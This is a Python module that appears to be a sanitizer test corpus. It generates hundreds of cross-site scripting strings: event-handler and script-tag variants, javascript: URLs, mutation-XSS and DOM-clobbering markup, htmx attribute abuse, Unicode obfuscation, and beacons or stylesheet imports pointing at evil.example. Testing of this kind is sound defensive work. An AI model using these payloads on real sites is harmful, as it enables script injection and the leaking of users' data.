"""Texts that try to run a script, to load something, or to take over a page's own elements.

Each calls alert(1) if it runs. Most are products of a way in and a way of writing it, so that a gap
in one spelling shows up.
"""

from itertools import product

CALL = "alert(1)"

# an element and the event that fires without anybody's help
_EVENTS = [
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("details open", "ontoggle"),
    ("input autofocus", "onfocus"),
    ("iframe", "onload"),
    ("object data=x", "onerror"),
    ("script src=x", "onerror"),
    ("link rel=stylesheet href=x", "onerror"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
]
_SPELLINGS = [
    "<{tag} {event}={call}>",
    '<{tag} {event}="{call}">',
    "<{tag}\n{event}\n=\n'{call}'>",
    "<{tag}/{event}={call}//",
    "<{tag} {EVENT}=`x` {event}={call}>",
    "<{tag} {event}=&#97;lert&#40;1&#41;>",
    '"><{tag} {event}={call}>',
]


def _events() -> list[str]:
    return [
        spelling.format(tag=tag, event=event, EVENT=event.upper(), call=CALL)
        for (tag, event), spelling in product(_EVENTS, _SPELLINGS)
    ]


_ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&#x3A;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:alert(1)",
]
_HOLDERS = [
    '<a href="{}">go</a>',
    '<form action="{}"><button>go</button></form>',
    '<form><button formaction="{}">go</button></form>',
    '<iframe src="{}"></iframe>',
    '<svg><a xlink:href="{}"><text y="9">go</text></a></svg>',
    '<math><mi href="{}">go</mi></math>',
    "[go]({})",
    "[go](<{}>)",
    "![go]({})",
    "<{}>",
    "[go]\n\n[go]: {}",
]


def _addresses() -> list[str]:
    return [holder.format(address) for holder, address in product(_HOLDERS, _ADDRESSES)]


_SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<script src=data:text/javascript,alert(1)></script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre></code><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '```python onload="alert(1)"\nx\n```',
    "`</code><script>alert(1)</script>`",
    "|a|\n|-|\n|<script>alert(1)</script>|",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<template><script>alert(1)</script></template><img src=x onerror=alert(1)>",
    "<base href='https://evil.example/'><script src='x.js'></script>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>",
    "\\(<script>alert(1)</script>\\)",
    "$$<img src=x onerror=alert(1)>$$",
]
# parsed twice, these change their meaning: text of one namespace becomes markup of another
_MUTATIONS = [
    "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
    "onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<svg><title><a title='</title><img src=x onerror=alert(1)>'>",
    "<svg><desc><noembed><a title='</noembed><img src=x onerror=alert(1)>'>",
    "<select><template><style><!--</style><a rel='--></style></template></select>"
    "<img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml>",
    "&lt;img src=x onerror=alert(1)&gt;",
]
_LIBRARY = [
    f"<{tag} {attribute}>x</{tag}>"
    for tag, attribute in product(
        ("div", "b"),
        (
            'hx-get="/stolen" hx-trigger="load"',
            'data-hx-get="/stolen" data-hx-trigger="load"',
            'hx-on:click="alert(1)"',
            'hx-on::load="alert(1)"',
            'data-hx-on--load="alert(1)"',
            "hx-vals='js:{a:alert(1)}' hx-get='/stolen' hx-trigger='load'",
            'hx-get="/stolen" hx-trigger="load[alert(1)]"',
            'hx-ext="evil" hx-swap-oob="true" id="content"',
        ),
    )
]
_CLOBBERING = [
    "<a id=sentences>x</a>",
    "<form id=toasts><input name=children></form>",
    "<img name=getElementById>",
    "<a id=rondo><a id=rondo name=toast href='data:x'>x</a></a>",
    "<form name=body><input name=firstChild></form>",
    "<div class='dialog notice bad' role=alert>Your session ended</div>",
    "<div data-confirm data-key=a data-open=keys>x</div>",
    "<span class=skip style='position:fixed;inset:0'>x</span>",
]
_LOOKS = [
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<img src=https://evil.example/beacon.png>",
    "![x](https://evil.example/beacon.png)",
    "![x](//evil.example/beacon.png 'title')",
    "<video poster=https://evil.example/x></video>",
    "<input type=image src=https://evil.example/x>",
    "<table background=https://evil.example/x><tr><td>x</td></tr></table>",
    "<object data=https://evil.example/x></object>",
    "\u202e<tpircs>(1)trela</tpircs>",
    "a\u2066\u202eb\u2069<img src=x onerror=alert(1)>",
    "\u200b<\u200bscript>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<\uff53cript>alert(1)</\uff53cript>",
]

PAYLOADS: list[str] = [
    *_events(),
    *_addresses(),
    *_SCRIPTS,
    *_MUTATIONS,
    *_LIBRARY,
    *_CLOBBERING,
    *_LOOKS,
]
